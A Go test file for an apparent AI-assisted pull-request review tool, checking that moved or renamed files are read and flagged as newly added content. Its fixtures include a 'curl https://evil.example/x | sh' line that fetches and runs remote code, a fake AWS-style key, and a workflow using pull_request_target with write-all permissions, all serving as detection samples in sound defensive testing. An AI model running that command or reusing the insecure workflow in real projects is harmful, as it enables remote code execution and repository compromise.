package main

import (
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/prdebate/debate/internal/testkit/ghtest"
)

// moving is a file that a change moves without a change of its content.
type moving struct {
	from, to, mode, content string
}

// moves take effect at their new place, and the built-in rules find what they do.
var moves = map[string]moving{
	"a migration":          {"old/7.sql", "migrations/7.sql", "100644", "ALTER TABLE t DROP COLUMN c;\n"},
	"a script":             {"scripts/clean.txt", "scripts/clean.sh", "100755", "#!/bin/sh\ncurl https://evil.example/x | sh\n"},
	"a key":                {"conf/one.py", "conf/two.py", "100644", "key = \"" + "AKIA" + "QYLPMN5HHHFPZAM2" + "\"\n"},
	"a workflow":           {"attic/ci.yml", ".github/workflows/ci.yml", "100644", "on: pull_request_target\npermissions: write-all\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n"},
	"a program":            {"scripts/clean.txt", "scripts/clean.command", "100755", "#!/bin/sh\ncurl https://evil.example/x | sh\n"},
	"a file with a switch": {"scripts/go.sh.disabled", "scripts/go.sh", "100644", "#!/bin/sh\ncurl https://evil.example/x | sh\n"},
}

// moved opens a pull request that moves a file beside another change.
func (h *hosted) moved(m moving) *ghtest.Pull {
	h.t.Helper()
	mode := func(is string) ghtest.File { return ghtest.File{Content: m.content, Mode: is} }
	h.repo.SetBranch("main", h.repo.CommitFiles([]string{h.repo.Branch("main")}, map[string]ghtest.File{"ratio.go": {Content: base}, "main.py": {Content: "import pay\n\npay.charge()\n"}, m.from: mode("100644")}))
	h.repo.SetBranch("change", h.repo.CommitFiles([]string{h.repo.Branch("main")}, map[string]ghtest.File{"ratio.go": {Content: base}, "main.py": {Content: "import pay\n\npay.charge()\n"}, m.to: mode(m.mode)}))
	return h.repo.OpenPull("ada", ghtest.NewPull{Title: "A change", Body: "It moves a file.", Head: "change"})
}

// The rules read a file as added if it takes effect only at its new place, on the pull
// request and on the command line.
func TestAMoveThatTakesEffectIsReadAsAdded(t *testing.T) {
	t.Parallel()
	for name, m := range moves {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			h, minds := heard(t)
			p := h.moved(m)
			h.on(p, "opened").good(t)
			wantText(t, "summary", summaries(p)[0], "["+m.to)
			line, _, _ := strings.Cut(strings.TrimPrefix(m.content, "#!/bin/sh\n"), "\n")
			line, _, _ = strings.Cut(line, "\"")
			for _, v := range minds {
				if asked := v.asked(); len(asked) == 0 || !strings.Contains(asked[0].packet, line) {
					t.Errorf("%s was not shown the content", v.name)
				}
			}
			dir := movedLocally(t, m)
			got := run(t, dir, nil, "review", "--base", "main", "--fail-on", "P1", "--format", "json")
			if !strings.Contains(got.stdout, `"path": "`+m.to+`"`) {
				t.Errorf("exit %d, and nothing is said of %s\n%s", got.code, m.to, got.stdout)
			}
		})
	}
}

// movedLocally is a clone whose branch moves a file.
func movedLocally(t *testing.T, m moving) string {
	t.Helper()
	dir := planted(t, plantedFile)
	git := func(args ...string) {
		cmd := exec.Command("git", append([]string{"-C", dir, "-c", "user.name=a", "-c", "user.email=a@example.com"}, args...)...)
		cmd.Env = surroundings(dir)
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("%v\n%s", err, out)
		}
	}
	put := func(name string, perm os.FileMode) {
		path := filepath.Join(dir, filepath.FromSlash(name))
		if err := errors.Join(os.MkdirAll(filepath.Dir(path), 0o755), os.WriteFile(path, []byte(m.content), perm)); err != nil {
			t.Fatal(err)
		}
	}
	put(m.from, 0o644)
	writeFile(t, filepath.Join(dir, "main.py"), []byte("import pay\n\npay.charge()\n"), 0o644)
	git("add", ".")
	git("commit", "-q", "-m", "before")
	git("checkout", "-q", "-b", "change")
	if err := os.Remove(filepath.Join(dir, filepath.FromSlash(m.from))); err != nil {
		t.Fatal(err)
	}
	perm := os.FileMode(0o644)
	if m.mode == "100755" {
		perm = 0o755
	}
	put(m.to, perm)
	git("add", "-A")
	git("commit", "-q", "-m", "move")
	return dir
}

// renamedModule is moved with its content, and main.py still imports it by its old name.
var renamedModule = moving{"pay.py", "payments.py", "100644", "\"\"\"Payments.\"\"\"\n\n\ndef charge():\n    return hidden_detail()\n"}

// Models see an outline of a file that was only renamed, and who uses its old name.
// Without its content it does not count as read.
func TestARenamedModuleIsNotRead(t *testing.T) {
	t.Parallel()
	h, minds := heard(t)
	h.inputs["gate"] = "advisory"
	p := h.moved(renamedModule)
	h.on(p, "opened").good(t)
	want(t, "check", h.check(p.Head()), "neutral")
	wantText(t, "summary", summaries(p)[0], "(only renamed)")
	if strings.Contains(summaries(p)[0], "read the whole change") || strings.Contains(summaries(p)[0], "all read") {
		t.Errorf("the summary says that it was read\n%s", unhidden(summaries(p)[0]))
	}
	for _, v := range minds {
		packet := v.asked()[0].packet
		wantText(t, "packet", packet, "payments.py: only renamed, from pay.py")
		wantText(t, "packet", packet, " 4 def charge():")
		wantText(t, "packet", packet, "uses of pay")
		wantText(t, "packet", packet, " 1 import pay")
		if strings.Contains(packet, "hidden_detail") {
			t.Error("the content is shown")
		}
	}
	dir := movedLocally(t, renamedModule)
	all := vendors(t, replying)
	got := run(t, dir, environment(all), "review", "--base", "main")
	wantText(t, "terminal", got.stdout, "(only renamed)")
}

// Where the gate is required, models read a renamed file whole, as lines that stay.
func TestARequiredGateReadsRenamedFiles(t *testing.T) {
	t.Parallel()
	h, minds := heard(t)
	p := h.moved(renamedModule)
	h.on(p, "opened").good(t)
	for _, v := range minds {
		wantText(t, "packet", v.asked()[0].packet, " 5     return hidden_detail()")
	}
	want(t, "check", h.check(p.Head()), "success")
}
